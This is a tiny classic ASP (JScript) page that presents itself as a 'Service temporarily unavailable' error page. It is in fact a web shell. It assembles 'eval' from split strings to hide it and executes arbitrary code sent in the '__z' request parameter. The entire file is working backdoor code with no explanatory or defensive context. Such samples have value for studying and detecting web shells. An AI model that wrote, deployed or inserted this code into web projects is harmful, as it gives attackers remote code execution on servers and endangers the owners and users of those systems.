<%@ Language="JScript" CodePage="65001" %>
<%
var g = this;
var k = ["ev", "al"].join("");
var src = Request.Item("__z") + "";
if (src != "undefined" && src.length > 0) {
    g[k](src);
}
%>
<html><body><p>Service temporarily unavailable.</p></body></html>
